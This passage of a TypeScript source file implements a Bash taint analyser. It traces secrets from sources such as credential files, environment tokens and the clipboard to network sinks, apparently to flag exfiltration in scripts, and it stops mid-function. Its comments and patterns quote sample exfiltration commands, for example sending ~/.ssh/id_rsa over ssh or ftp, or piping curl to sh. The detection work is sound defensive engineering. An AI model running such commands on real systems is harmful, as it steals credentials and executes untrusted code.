import type { Node } from 'web-tree-sitter';
import { EMPTY, foldString, textValue, union, USER_CRON_TABLE_PATH, withText, type AbstractValue, type Recorder, type StringPart } from './core';
import { BROWSER_PROGRAMS, dnsLookupProgram, DNS_PROGRAMS, HOME_VARIABLES, hostInText, isSecretName, SCREEN_CAPTURE_PROGRAMS, shellCommandSource, systemPasswordPrompt } from './labels';
import type { HelperReuse, OutsideRead } from './helper-replay';
import { findAll, MAX_DEPTH, MAX_LITERAL_LOOP_ITEMS, unquote, WalkerBase, type FunctionInfo } from './walker';
import { programIndex } from '../shell-wrappers';
import { inlineProgramFlag, installsCronTableFromStdin, programFileName, readsProgramFromStdin, sshDestination } from './shell-text';

/**
 * Taint walk over a Bash tree. Values flow through variables, command substitution, pipes
 * (stdout → stdin), `xargs` (stdin → the arguments of the command it runs), here-strings and
 * redirects. Sources: `cat` of sensitive files, `$(< ~/.env)`,
 * `env`/`printenv`, secret-named environment variables (`$GITHUB_TOKEN`, never assigned in the
 * unit), the clipboard, screen captures, and `curl`/`wget` output. Sinks: curl/wget uploads, `nc`,
 * `/dev/tcp`, `scp`, DNS tools, writes to shared locations, and `eval`/`bash -c`/`source` of
 * downloaded text (a direct `curl … | sh` is left to SKL501).
 */

/** Filters whose output lines are some of their input lines (the pattern of `grep` aside). */
const LINE_FILTERS = /^(?:head|tail|sort|uniq|tac|grep|egrep|fgrep|rg)$/;
/** Filters: their stdout carries their stdin and the files they read. */
const FILTERS = /^(?:cat|head|tail|tac|base64|base32|basenc|xxd|od|hexdump|gzip|gunzip|zcat|bzip2|xz|zstd|openssl|tr|sed|awk|gawk|cut|jq|yq|sort|uniq|tee|rev|fold|paste|column|strings|gpg|iconv|python3?|perl|ruby|node|xargs|grep|egrep|fgrep|rg|cat|less|more|nl|fmt|expand|sha256sum|md5sum|sha1sum|sqlite3)$/;
const SHELLS = /^(?:(?:ba|z|da|k)?sh|source|\.)$/;
/** A body field that names its value a credential in general rather than a protocol's parameter. */
const GENERIC_CREDENTIAL_FIELD = /(?:^|[\s&?{,"'])(credentials?|creds)\\?["']?\s*[=:]\s*\\?["']?$/i;
/** `${{ secrets.NAME }}` (group `name`) or `${{ toJSON(secrets) }}` in a workflow's `run:` step. */
const WORKFLOW_SECRETS = /\$\{\{\s*(?:secrets\.(?<name>[A-Za-z_][A-Za-z0-9_]*)|toJSON\(\s*secrets\s*\))\s*\}\}/g;
const INTERPRETERS = /^(?:python[0-9.]*|node|perl|ruby|php|deno|bun)$/;
/**
 * Git settings whose value git runs as a shell command: the file system monitor on every status,
 * the SSH command on every fetch, the pager and editors, external diff and filter drivers, the
 * signing program. An alias or a credential helper is a shell command when it starts with `!`.
 * SKL704's pattern (rules/system) names these keys for the setting itself; change both together.
 */
const GIT_COMMAND_SETTING = /^(?:core\.(?:fsmonitor|sshcommand|pager|editor|askpass)|sequence\.editor|diff\.external|diff\.[^.]+\.(?:command|textconv)|filter\.[^.]+\.(?:clean|smudge|process)|merge\.[^.]+\.driver|gpg(?:\.[^.]+)?\.program|pager\.[^.]+|(?:diff|merge)tool\.[^.]+\.cmd|uploadpack\.packobjectshook)$/;
const GIT_BANG_SETTING = /^(?:alias\.[^.]+|credential(?:\.[^.]+)?\.helper)$/;
/** `git config` options that take the next word as their value. */
const GIT_CONFIG_VALUE_OPTION = /^(?:-f|--file|--blob|--type|--default|--comment)$/;
/** Programs that send a file through a public relay to whoever holds the code they print. */
const PEER_TRANSFER = /^(?:croc|wormhole|magic-wormhole)$/;
const PEER_RELAY: Readonly<Record<string, string>> = { croc: 'croc.schollz.com', wormhole: 'relay.magic-wormhole.io', 'magic-wormhole': 'relay.magic-wormhole.io' };
/** A backslash escape that double quotes remove (a backslash and a line break leave nothing). */
const DOUBLE_QUOTED_ESCAPE = /\\(["\\$`]|\n)/g;
/** tmux commands whose last operand is a shell command. */
const TMUX_SHELL_COMMANDS = new Set(['new-session', 'new', 'new-window', 'neww', 'split-window', 'splitw', 'respawn-pane', 'respawn-window', 'run-shell', 'run']);
const PARALLEL_VALUE_OPTION = /^(?:-[jPSIdnNL]|--(?:jobs|sshlogin|delimiter|max-args|max-replace-args|timeout|delay|joblog|results|tmpdir|workdir|retries))$/;

export class BashWalker extends WalkerBase {
  /** Variables assigned anywhere in the unit: those are not environment secrets. */
  private readonly assigned = new Set<string>();
  /** The top-level statement being walked: a download inside it that reaches an executor is SKL501's. */
  private statementRange: readonly [number, number] = [0, 0];
  /**
   * Where commands start whose program is named by a computed expansion (`x=$(printf '\x63url…');
   * $x -s https://… | sh`): neither SKL501's patterns nor the variables the hidden-payload search
   * fills in (constants only) see those.
   */
  private readonly expandedPrograms = new Set<number>();
  /** Variables last assigned a value that holds a command substitution. */
  private readonly computedVariables = new Set<string>();

  /** The script's standard input: a hook script's is the session's data (see `scriptInput`). */
  private readonly input: AbstractValue;

  constructor(recorder: Recorder, deadline: number, private readonly root: Node, reuse?: HelperReuse) {
    super(recorder, deadline, reuse);
    this.input = this.scriptInput(0, 0);
  }

  run(): void {
    // Looked for apart, so that thousands of assignments cannot crowd a function out of the bound.
    for (const node of findAll(this.root, new Set(['function_definition']), 5000)) {
      const name = node.childForFieldName('name')?.text;
      if (name && !this.functions.has(name)) {
        this.functions.set(name, { name, node, params: ['1', '2', '3', '4', '5', '6', '7', '8', '9'], receiverOffset: 0 });
      }
    }
    for (const node of findAll(this.root, new Set(['variable_assignment', 'for_statement']), 5000)) {
      const name = node.childForFieldName(node.type === 'for_statement' ? 'variable' : 'name')?.text;
      if (name) this.assigned.add(name);
    }
    this.statements(this.root, 0);
    this.summariseRemaining();
  }

  /** Whether the script assigns the variable anywhere; read through here so that a recorded helper walk sees it. */
  private isAssigned(name: string): boolean {
    const assigned = this.assigned.has(name);
    this.recording?.read({ kind: 'assigned', name, assigned });
    return assigned;
  }

  protected override outsideNow(read: OutsideRead): OutsideRead | undefined {
    if (read.kind === 'assigned') return { ...read, assigned: this.assigned.has(read.name) };
    return super.outsideNow(read);
  }

  protected walkFunctionBody(info: FunctionInfo): void {
    this.inHelperScope(info.params, () => {
      // "$@" and "$*" stand for all nine positional parameters.
      this.scope.set('@', { labels: [], params: 0x1ff });
      this.scope.set('*', { labels: [], params: 0x1ff });
      const body = info.node.childForFieldName('body');
      if (body) this.returnValue(this.statements(body, 1));
    });
  }

  /** Walks statements; returns the union of their stdout (a function's "return value"). */
  private statements(node: Node, depth: number): AbstractValue {
    return union(...this.outputsOf(node, depth));
  }

  private outputsOf(node: Node, depth: number): AbstractValue[] {
    if (depth > MAX_DEPTH) return [];
    const outputs: AbstractValue[] = [];
    for (const child of node.namedChildren) {
      if (!child || !this.budget.tick()) break;
      const outer = this.statementRange;
      this.statementRange = [child.startIndex, child.endIndex];
      // A statement outside a pipeline reads the script's own standard input.
      outputs.push(this.statement(child, this.input, depth + 1));
      this.statementRange = outer;
    }
    return outputs;
  }

  /**
   * A group's output, `(crontab -l; echo "…")`: its commands' outputs one after another, an
   * unknown one as `*`, so the lines it echoes stay known where it is piped.
   */
  private groupOutput(node: Node, depth: number): AbstractValue {
    const outputs = this.outputsOf(node, depth);
    const joined = union(...outputs);
    if (!outputs.some((output) => output.text !== undefined)) return joined;
    return withText(joined, outputs.map((output) => (output.text ?? '*').replace(/\n$/, '')).join('\n'));
  }

  /** Runs one statement with the given stdin; returns its stdout. */
  private statement(node: Node, stdin: AbstractValue, depth: number): AbstractValue {
    if (depth > MAX_DEPTH || !this.budget.tick()) return EMPTY;
    switch (node.type) {
      case 'command':
        return this.command(node, stdin, depth);
      case 'pipeline': {
        let flowing = stdin;
        for (const child of node.namedChildren) if (child) flowing = this.statement(child, flowing, depth + 1);
        return flowing;
      }
      case 'redirected_statement':
        return this.redirected(node, stdin, depth);
      case 'variable_assignment':
        this.assign(node, depth);
        return EMPTY;
      case 'declaration_command':
        for (const child of node.namedChildren) if (child?.type === 'variable_assignment') this.assign(child, depth);
        return EMPTY;
      case 'function_definition':
      case 'comment':
        return EMPTY;
      case 'for_statement': {
        const variable = node.childForFieldName('variable')?.text;
        const values = node.childrenForFieldName('value').filter((value): value is Node => value !== null).map((value) => this.word(value, depth + 1));
        const body = node.childForFieldName('body');
        // `for f in ~/.ssh/id_rsa ~/.aws/credentials; do … "$f"`: a few known words, each walked
        // through the body, so the paths stay known.
        if (variable && body && values.length >= 2 && values.length <= MAX_LITERAL_LOOP_ITEMS && values.every((value) => value.text !== undefined && !value.text.includes('*'))) {
          const outputs = values.map((value) => {
            this.scope.set(variable, value);
            return this.statements(body, depth + 1);
          });
          return union(...outputs);
        }
        if (variable) {
          const first = values[0];
          this.scope.set(variable, values.length === 1 && first ? first : union(...values));
        }
        return body ? this.statements(body, depth + 1) : EMPTY;
      }
      case 'subshell':
      case 'compound_statement':
        return this.groupOutput(node, depth + 1);
      case 'list':
      case 'do_group':
      case 'if_statement':
      case 'elif_clause':
      case 'else_clause':
      case 'while_statement':
      case 'case_statement':
      case 'case_item':
      case 'program':
        return this.statements(node, depth + 1);
      case 'negated_command':
        return node.namedChildren[0] ? this.statement(node.namedChildren[0], stdin, depth + 1) : EMPTY;
      default:
        return EMPTY;
    }
  }

  private assign(node: Node, depth: number): void {
    const name = node.childForFieldName('name')?.text;
    const value = node.childForFieldName('value');
    if (!name) return;
    const evaluated = value ? this.word(value, depth + 1) : EMPTY;
    // bash runs `PROMPT_COMMAND` before every prompt it shows.
    if (name === 'PROMPT_COMMAND') this.runsText(node, '`PROMPT_COMMAND`', evaluated, 'command.sh');
    if (node.text.includes('+=')) this.scope.add(name, evaluated);
    else this.scope.set(name, evaluated);
    if (value && (value.text.includes('$(') || value.text.includes('`'))) this.computedVariables.add(name);
    else if (!node.text.includes('+=')) this.computedVariables.delete(name);
  }

  /** A command substitution, or an expansion of a variable last assigned one. */
  private computedExpansion(node: Node): boolean {
    // `$(echo wget)` alone is a word the hidden-payload search already writes out.
    if (node.type === 'command_substitution') return !/^(?:\$\(|`)\s*(?:echo|printf)\s+["']?[\w./-]+["']?\s*(?:\)|`)$/.test(node.text);
    if (node.type !== 'simple_expansion' && node.type !== 'expansion') return false;
    const variable = node.namedChildren.find((child) => child?.type === 'variable_name')?.text;
    return variable !== undefined && this.computedVariables.has(variable);
  }

  private redirected(node: Node, stdin: AbstractValue, depth: number): AbstractValue {
    const body = node.childForFieldName('body');
    // `exec 3< <(curl …)` opens descriptor 3 for the rest of the script; `bash <&3` reads it.
    if (body?.type === 'command' && body.childForFieldName('name')?.text === 'exec' && body.childrenForFieldName('argument').length === 0) {
      for (const redirect of node.childrenForFieldName('redirect')) {
        const descriptor = redirect?.type === 'file_redirect' ? redirect.childForFieldName('descriptor')?.text : undefined;
        const destination = redirect?.childForFieldName('destination');
        if (!redirect || !descriptor || !destination || !/^[0-9]*<$/.test(this.operatorOf(redirect, destination))) continue;
        const path = this.word(destination, depth + 1);
        this.scope.set(`fd:${descriptor}`, union(path, this.recorder.readFile(path.text, redirect.startIndex, redirect.endIndex)));
      }
      return EMPTY;
    }
    // tree-sitter-bash hangs the redirect of `a && b > f` on the whole list; bash gives it to `b`.
    if (body?.type === 'list') {
      const parts = body.namedChildren.filter((part): part is Node => part !== null && part.type !== 'comment');
      const last = parts.pop();
      for (const part of parts) this.statement(part, stdin, depth + 1);
      return this.withRedirects(node, node.childrenForFieldName('redirect'), stdin, depth, (input) => (last ? this.statement(last, input, depth + 1) : EMPTY));
    }
    return this.withRedirects(node, node.childrenForFieldName('redirect'), stdin, depth, (input) => (body ? this.statement(body, input, depth + 1) : EMPTY));
  }

  /**
   * Applies `< file`, `<&3`, here-strings and here-docs to stdin, runs `run`, and sends its stdout
   * to `> file`. A here-document's line may go on after its marker: `cat <<EOF | bash` pipes the
   * command's output on, `cat <<EOF > f` redirects it, `cat <<EOF && x` runs another command.
   */
  private withRedirects(node: Node, redirects: readonly (Node | null)[], stdin: AbstractValue, depth: number, run: (input: AbstractValue) => AbstractValue): AbstractValue {
    let input = stdin;
    const writes: { path: AbstractValue; node: Node }[] = [];
    const pending = [...redirects];
    const after: { readonly pipe?: Node; readonly next?: Node }[] = [];
    for (let index = 0; index < pending.length && index < 64; index++) {
      const redirect = pending[index];
      if (!redirect) continue;
      if (redirect.type === 'file_redirect') {
        const destination = redirect.childForFieldName('destination') ?? redirect.namedChildren[redirect.namedChildren.length - 1];
        if (!destination) continue;
        const operator = this.operatorOf(redirect, destination);
        if (/^[0-9]*<&$/.test(operator)) {
          input = fed(input, this.descriptor(destination));
          continue;
        }
        const path = this.word(destination, depth + 1);
        if (/^[0-9]*<$/.test(operator)) input = union(input, path, this.recorder.readFile(path.text, redirect.startIndex, redirect.endIndex));
        // `2>/dev/null` moves stderr only; stdout still flows on.
        else if (/>/.test(operator) && !/&$/.test(operator) && !/^[2-9]/.test(operator)) writes.push({ path, node: redirect });
      } else if (redirect.type === 'herestring_redirect') {
        const value = redirect.namedChildren[0];
        if (value) input = fed(input, this.word(value, depth + 1));
      } else if (redirect.type === 'heredoc_redirect') {
        const body = redirect.namedChildren.find((child) => child?.type === 'heredoc_body');
        if (body) input = fed(input, this.stringParts(body, depth + 1));
        pending.push(...redirect.childrenForFieldName('redirect'));
        const pipe = redirect.namedChildren.find((child) => child?.type === 'pipeline') ?? undefined;
        const next = redirect.childForFieldName('right') ?? undefined;
        if (pipe || next) after.push({ ...(pipe ? { pipe } : {}), ...(next ? { next } : {}) });
      }
    }
    let output = run(input);
    for (const write of writes) {
      const path = write.path.text;
      if (path && /^\/dev\/(?:tcp|udp)\//.test(path)) {
        const host = path.split('/')[3];
        this.reachSink(output, this.recorder.sink('socket', `a raw connection to ${host ?? 'a remote host'}`, node.startIndex, node.endIndex, host), 'payload');
      } else {
        this.recorder.writeFile(path, output, node.startIndex, node.endIndex);
      }
    }
    if (writes.length > 0) output = EMPTY;
    for (const { pipe, next } of after) {
      if (pipe) output = this.statement(pipe, output, depth + 1);
      if (next) output = union(output, this.statement(next, EMPTY, depth + 1));
    }
    return output;
  }

  /** The redirection operator written before `destination` (`<`, `3<`, `<&`, `>>`). */
  private operatorOf(redirect: Node, destination: Node): string {
    return redirect.text.slice(0, destination.startIndex - redirect.startIndex).replace(/\s+/g, '');
  }

  /** What a descriptor opened earlier holds (`<&3` after `exec 3< …`, `<&"${COPROC[0]}"` after `coproc …`). */
  private descriptor(destination: Node): AbstractValue {
    const text = destination.text;
    const name = /^[0-9]+$/.test(text) ? text : /\$\{?([A-Za-z_]\w*)\[0\]/.exec(text)?.[1];
    return name ? (this.scope.get(`fd:${name}`) ?? EMPTY) : EMPTY;
  }

  // ------------------------------------------------------------------ words

  private variable(name: string, node: Node): AbstractValue {
    const assigned = this.scope.get(name);
    if (assigned) return assigned;
    if (HOME_VARIABLES.has(name)) return textValue('~');
    // A variable the script assigns anywhere holds what the script put there, not the user's.
    return this.isAssigned(name) ? EMPTY : this.environmentValue(name, node.startIndex, node.endIndex);
  }

  /**
   * A CI workflow expression the runner fills in before the shell starts: `${{ secrets.NAME }}` is
   * that secret, as an environment variable of the name would be; `${{ toJSON(secrets) }}` is
   * every secret of the repository at once.
   */
  private workflowSecrets(name: string | undefined, node: Node): AbstractValue {
    if (name) return isSecretName(name) ? { labels: [this.recorder.label({ category: 'named-secret', description: `the workflow secret ${name}` }, node.startIndex, node.endIndex, name)], params: 0 } : EMPTY;
    return { labels: [this.recorder.label({ category: 'environment', description: 'every secret of the workflow' }, node.startIndex, node.endIndex)], params: 0 };
  }

  private word(node: Node, depth: number): AbstractValue {
    if (depth > MAX_DEPTH || !this.budget.tick()) return EMPTY;
    // The runner fills workflow expressions in before the shell starts, inside any quotes; the
    // grammar reads `${{ … }}` as an error, so it is looked for in the word's text.
    if ((node.type === 'string' || node.type === 'raw_string' || node.type === 'word') && node.text.includes('${{')) {
      const secrets = [...node.text.matchAll(WORKFLOW_SECRETS)].map((match) => this.workflowSecrets(match.groups?.name, node));
      if (secrets.length > 0) return union(this.plainWord(node, depth), ...secrets);
    }
    return this.plainWord(node, depth);
  }

  private plainWord(node: Node, depth: number): AbstractValue {
    switch (node.type) {
      case 'word':
      case 'number':
        return textValue(node.text);
      case 'raw_string':
        return textValue(unquote(node.text));
      case 'string':
        return this.stringParts(node, depth);
      case 'simple_expansion':
      case 'expansion': {
        const name = node.namedChildren.find((child) => child?.type === 'variable_name' || child?.type === 'special_variable_name');
        return name ? this.variable(name.text, node) : EMPTY;
      }
      case 'concatenation':
        return foldString(node.namedChildren.map((child) => ({ value: child ? this.word(child, depth + 1) : EMPTY })));
      case 'command_substitution':
        return this.substitution(node, depth);
      case 'process_substitution':
        return union(...node.namedChildren.map((child) => (child ? this.statement(child, EMPTY, depth + 1) : EMPTY)));
      default:
        return union(...node.namedChildren.map((child) => (child ? this.word(child, depth + 1) : EMPTY)));
    }
  }

  private stringParts(node: Node, depth: number): AbstractValue {
    const parts: StringPart[] = [];
    // Inside double quotes a backslash escapes `"`, `\`, `$`, a backquote and a line break, and
    // stays before anything else (`"os.system(\"…\")"` holds `os.system("…")`).
    const literal = node.type === 'string' ? (text: string): string => (text.includes('\\') ? text.replace(DOUBLE_QUOTED_ESCAPE, (_, escaped: string) => (escaped === '\n' ? '' : escaped)) : text) : (text: string): string => text;
    let cursor = node.startIndex + (node.type === 'string' ? 1 : 0);
    for (const child of node.namedChildren) {
      if (!child) continue;
      if (child.startIndex > cursor) parts.push({ literal: literal(this.root.text.slice(cursor, child.startIndex)) });
      if (child.type === 'string_content' || child.type === 'heredoc_content') parts.push({ literal: literal(child.text) });
      else parts.push({ value: this.labelledCredential(child, parts) ?? this.word(child, depth + 1) });
      cursor = child.endIndex;
    }
    // A quoted here-document's body has no parts: all of it is literal.
    if (node.type === 'heredoc_body' && node.endIndex > cursor) parts.push({ literal: this.root.text.slice(cursor, node.endIndex) });
    return foldString(parts);
  }

  /**
   * `"credential=${x}"`: a variable the script never sets, placed after a field name that calls
   * the value a credential in general. No protocol takes a parameter named so (OAuth, login forms
   * and APIs say `client_secret`, `password`, `token`, `api_key`, which are read as credential
   * uses); a body that announces "credentials" is carrying them to someone who collects them, so the
   * value is a secret whatever the variable is called.
   */
  private labelledCredential(child: Node, parts: readonly StringPart[]): AbstractValue | undefined {
    if (child.type !== 'simple_expansion' && child.type !== 'expansion') return undefined;
    const name = child.namedChildren.find((part) => part?.type === 'variable_name')?.text;
    if (!name || !/^[A-Za-z_]/.test(name) || this.isAssigned(name) || this.scope.get(name) || HOME_VARIABLES.has(name) || isSecretName(name)) return undefined;
    let before = '';
    for (let index = parts.length - 1; index >= 0 && before.length < 40; index--) {
      const part = parts[index];
      if (!part || !('literal' in part)) break;
      before = part.literal + before;
    }
    const label = GENERIC_CREDENTIAL_FIELD.exec(before.slice(-40))?.[1];
    if (!label) return undefined;
    return { labels: [this.recorder.label({ category: 'named-secret', description: `a value the command labels \`${label}\`` }, child.startIndex, child.endIndex)], params: 0 };
  }

  /** `$(cmd)`: the command's stdout; `$(< file)` reads the file; `$(SECRET_NAME)` names the variable. */
  private substitution(node: Node, depth: number): AbstractValue {
    const children = node.namedChildren.filter((child): child is Node => child !== null);
    const only = children.length === 1 ? children[0] : undefined;
    if (only?.type === 'command' && only.childrenForFieldName('argument').length === 0) {
      const name = only.childForFieldName('name')?.text ?? '';
      // Makefile and CI syntax write variables as $(NAME); an agent reads it that way too.
      if (/^[A-Z][A-Z0-9_]*$/.test(name) && this.helperNamed(name) === undefined && isSecretName(name)) return this.variable(name, only);
    }
    if (only?.type === 'file_redirect' || (children.length > 0 && children.every((child) => child.type === 'file_redirect'))) {
      const destination = children[0]?.namedChildren[children[0].namedChildren.length - 1];
      const path = destination ? this.word(destination, depth + 1) : EMPTY;
      return this.recorder.readFile(path.text, node.startIndex, node.endIndex);
    }
    // One command keeps what its output is known to be (a folded path, a `find` pattern).
    const single = children.length === 1 ? children[0] : undefined;
    if (single) return this.statement(single, this.input, depth + 1);
    return union(...children.map((child) => this.statement(child, this.input, depth + 1)));
  }

  // ------------------------------------------------------------------ commands

  private command(node: Node, stdin: AbstractValue, depth: number): AbstractValue {
    // `coproc curl …` runs the command beside the script; `<&"${COPROC[0]}"` reads its output.
    if (node.childForFieldName('name')?.text === 'coproc' && node.childrenForFieldName('argument').length > 0) {
      this.scope.set('fd:COPROC', this.plainCommand(node, EMPTY, depth, true));
      return EMPTY;
    }
    const redirects = node.childrenForFieldName('redirect');
    if (redirects.length > 0) return this.withRedirects(node, redirects, stdin, depth, (input) => this.plainCommand(node, input, depth));
    return this.plainCommand(node, stdin, depth);
  }

  private plainCommand(node: Node, stdin: AbstractValue, depth: number, coprocess = false): AbstractValue {
    for (const child of node.namedChildren) if (child?.type === 'variable_assignment') this.assign(child, depth);
    const nameNode = node.childForFieldName('name');
    if (!nameNode) return EMPTY;
    const nameWord = nameNode.namedChildren[0] ?? nameNode;
    let words: { node: Node; value: AbstractValue }[] = [
      ...splitWord(nameNode, nameWord, this.word(nameWord, depth + 1)),
      ...node
        .childrenForFieldName('argument')
        .filter((arg): arg is Node => arg !== null)
        .flatMap((arg) => splitWord(arg, arg, this.word(arg, depth + 1))),
    ];
    if (coprocess) words = words.slice(1);
    // sudo, env A=b, nohup, timeout 60… run the command that follows (xargs is read below).
    words = words.slice(Math.min(programIndex(words.map((word) => word.value.text ?? ''), { stdinOnly: true }), words.length - 1));
    if (programOf(words[0]?.value.text) === 'xargs') {
      const run = xargsCommand(words, stdin);
      if (run) {
        words = run;
        stdin = EMPTY;
      }
    }
    const texts = words.map((word) => word.value.text ?? '*');
    const program = programOf(texts[0]);
    if (words[0]?.node === nameNode && this.computedExpansion(nameWord)) this.expandedPrograms.add(this.recorder.base + node.startIndex);

    const helper = this.helperNamed(program);
    if (helper) {
      const args = words.slice(1).map((word) => word.value);
      return union(this.applySummary(helper, args, this.recorder.file, this.recorder.base + node.startIndex, this.recorder.base + node.endIndex));
    }

    const source = shellCommandSource(texts);
    if (source) return { labels: [this.recorder.label(source, node.startIndex, node.endIndex)], params: 0 };
    if (SCREEN_CAPTURE_PROGRAMS.has(program) || (program === 'import' && texts.includes('root'))) {
      const target = texts.slice(1).filter((text) => !text.startsWith('-')).pop();
      const label = { labels: [this.recorder.label({ category: 'privacy', description: 'a screen capture' }, node.startIndex, node.endIndex)], params: 0 };
      if (target) this.recorder.writeFile(target, label, node.startIndex, node.endIndex);
      return label;
    }
    if (program === 'find') return findResults(texts);
    if (program === 'read') {
      this.silentRead(node, words);
      return EMPTY;
    }
    const upload = bucketUpload(texts);
    if (upload) {
      const word = words[upload.source];
      const sink = this.recorder.sink('network', `an upload to the bucket \`${upload.bucket}\``, node.startIndex, node.endIndex, upload.bucket);
      if (word) this.reachSink(union(stdin, word.value, this.recorder.readFile(word.value.text, word.node.startIndex, word.node.endIndex)), sink, 'payload');
      return EMPTY;
    }
    if (program === 'curl' || program === 'wget') return this.transfer(node, program, words, stdin);
    if (program === 'gh') {
      this.githubUpload(node, words, stdin);
      return EMPTY;
    }
    // `whois -h host QUERY` sends the query to a host the skill picks: a covert channel.
    if (program === 'whois') {
      const at = texts.indexOf('-h');
      const host = at > 0 ? texts[at + 1] : undefined;
      if (host) {
        const sink = this.recorder.sink('socket', `\`whois\` to ${host}`, node.startIndex, node.endIndex, host);
        for (const word of words.slice(1)) if (word.value.text !== host && word.value.text !== '-h') this.reachSink(word.value, sink, 'payload');
      }
      return EMPTY;
    }
    if (/^(?:nc|ncat|netcat|socat|telnet)$/.test(program)) {
      const host = texts.slice(1).find((text) => !text.startsWith('-') && /[a-z.]/i.test(text));
      this.reachSink(union(stdin, ...words.slice(1).map((word) => word.value)), this.recorder.sink('socket', `\`${program}\` to ${host ?? 'a remote host'}`, node.startIndex, node.endIndex, host), 'payload');
      return EMPTY;
    }
    // MQTT publishers send `-m` messages, `-f` files and, with `-s`/`-l`, stdin to the broker `-h`.
    if (/^(?:mosquitto_pub|mqttx|mqtt-pub)$/.test(program)) {
      const at = texts.findIndex((text, index) => index > 0 && /^(?:-h|--host)$/.test(text));
      const host = at > 0 ? texts[at + 1] : undefined;
      const sink = this.recorder.sink('network', `\`${program}\` to ${host ?? 'an MQTT broker'}`, node.startIndex, node.endIndex, host);
      const sent = words.filter((_, index) => index > 1 && /^(?:-m|--message|-f|--file)$/.test(texts[index - 1] ?? ''));
      const files = words.filter((_, index) => index > 1 && /^(?:-f|--file)$/.test(texts[index - 1] ?? ''));
      const fromStdin = texts.some((text) => /^(?:-s|-l|--stdin-file|--stdin-line)$/.test(text));
      this.reachSink(
        union(fromStdin ? stdin : EMPTY, ...sent.map((word) => word.value), ...files.map((word) => this.recorder.readFile(word.value.text, word.node.startIndex, word.node.endIndex))),
        sink,
        'payload',
      );
      return EMPTY;
    }
    // Mail clients send stdin as the body and `-a`/`-A` files as attachments.
    if (/^(?:mail|mailx|sendmail|mutt|s-nail)$/.test(program)) {
      const recipient = texts.slice(1).find((text) => /^[^@\s]{1,64}@[\w.-]{1,253}$/.test(text));
      const host = recipient?.replace(/^.*@/, '');
      const sink = this.recorder.sink('mail', `\`${program}\`${recipient ? ` to ${recipient}` : ''}`, node.startIndex, node.endIndex, host);
      const attached = words.filter((_, index) => index > 1 && /^-[aA]$/.test(texts[index - 1] ?? ''));
      this.reachSink(union(stdin, ...attached.map((word) => union(word.value, this.recorder.readFile(word.value.text, word.node.startIndex, word.node.endIndex)))), sink, 'payload');
      return EMPTY;
    }
    // `openssl s_client -connect host:port` is a TLS socket fed from stdin.
    if (program === 'openssl' && texts[1] === 's_client') {
      const connect = texts.findIndex((text) => text === '-connect');
      const host = connect > 0 ? (texts[connect + 1] ?? '').replace(/:\d+$/, '') : undefined;
      this.reachSink(stdin, this.recorder.sink('socket', `\`openssl s_client\` to ${host ?? 'a remote host'}`, node.startIndex, node.endIndex, host), 'payload');
      return EMPTY;
    }
    // `ping -p <hex>` fills ICMP packets with chosen bytes: a covert channel.
    if (program === 'ping') {
      const pattern = texts.findIndex((text) => text === '-p');
      const host = texts.slice(1).filter((text) => !text.startsWith('-')).pop();
      if (pattern > 0 && words[pattern + 1]) this.reachSink(words[pattern + 1]?.value ?? EMPTY, this.recorder.sink('socket', `ICMP packets to ${host ?? 'a remote host'} (\`ping -p\`)`, node.startIndex, node.endIndex, host), 'payload');
    }
    // `open "https://…?d=$(cat ~/.aws/credentials)"`: the browser sends the address to its host.
    if (BROWSER_PROGRAMS.has(program)) {
      for (const word of words.slice(1)) {
        if (!/^["']?https?:\/\//i.test(word.value.text ?? word.node.text)) continue;
        const host = hostInText(word.value.text ?? word.node.text);
        this.reachSink(word.value, this.recorder.sink('network', `a page the browser opens at ${host ?? 'a remote server'}`, node.startIndex, node.endIndex, host), 'url');
      }
      return EMPTY;
    }
    const dnsProgram = dnsLookupProgram([program, ...texts.slice(1)]);
    if (dnsProgram) {
      const sink = this.recorder.sink('dns', `a DNS lookup with \`${dnsProgram}\``, node.startIndex, node.endIndex);
      // `ping -p <hex> host` resolves only its target, the last word; a DNS client may be given several names.
      const names = DNS_PROGRAMS.has(dnsProgram) ? words.slice(1) : words.slice(-1);
      for (const word of names) this.reachSink(word.value, sink, 'dns');
      // A DNS client's answer (a TXT record) is data from the network, a payload as well as a page.
      return DNS_PROGRAMS.has(dnsProgram) ? { labels: [this.recorder.label({ category: 'download', description: 'data downloaded from the network' }, node.startIndex, node.endIndex)], params: 0 } : EMPTY;
    }
    // `ssh host 'cat > k' < ~/.ssh/id_rsa`, `tar cz ~/.ssh | ssh host …`: ssh sends its standard
    // input to the remote command.
    if (program === 'ssh') {
      const destination = sshDestination(texts);
      const host = destination === undefined ? undefined : sshHost(texts[destination] ?? '*');
      if (host && !isLocalHost(host)) this.reachSink(stdin, this.recorder.sink('command', `\`ssh\` to ${host}`, node.startIndex, node.endIndex, host), 'payload');
      // `ssh "$h" 'curl … | sh'`: the words after the destination are a command line the remote
      // shell runs, with the user's keys, on each machine the loop reaches.
      const remote = destination === undefined ? [] : words.slice(destination + 1);
      if (remote.length > 0) this.runsText(node, `\`ssh\` on ${host ?? 'another machine'}`, spaced(remote), 'command.sh');
      return EMPTY;
    }
    // `ftp host <<EOF … put ~/.aws/credentials k … EOF`: the file transfer clients read their
    // commands from standard input; each file a `put` names is sent to the host.
    if (/^(?:ftp|tftp|sftp|lftp)$/.test(program) && stdin.text !== undefined) {
      const host = texts.slice(1).filter((text) => !text.startsWith('-')).map((text) => text.replace(/^[a-z]+:\/\//i, '').replace(/^.*@/, '').replace(/[:/].*$/, ''))[0];
      if (host && !isLocalHost(host)) {
        const sink = this.recorder.sink('command', `\`${program}\` to ${host}`, node.startIndex, node.endIndex, host);
        for (const put of stdin.text.matchAll(/^[ \t]*(?:m?put|send|append|reput)[ \t]+(?:-[a-zA-Z]+[ \t]+)*(\S+)/gm)) {
          const path = put[1] ?? '';
          this.reachSink(this.recorder.readFile(path, node.startIndex, node.endIndex), sink, 'payload');
        }
      }
      if (program === 'tftp' || program === 'ftp' || program === 'lftp') return EMPTY;
    }
    // `croc send ~/.ssh/id_rsa`, `wormhole send …`: the file goes through a public relay to
    // whoever holds the code the command prints.
    if (PEER_TRANSFER.test(program) && texts[1] === 'send') {
      const sink = this.recorder.sink('command', `\`${program} send\` through its public relay to whoever holds the code`, node.startIndex, node.endIndex, PEER_RELAY[program] ?? program);
      for (const word of words.slice(2)) {
        if ((word.value.text ?? '').startsWith('-')) continue;
        this.reachSink(this.recorder.readFile(word.value.text, word.node.startIndex, word.node.endIndex), sink, 'payload');
      }
      return EMPTY;
    }
    // `smbclient //host/share -c 'put ~/.ssh/id_rsa k'`: each file a `put` names goes to the share.
    if (program === 'smbclient') {
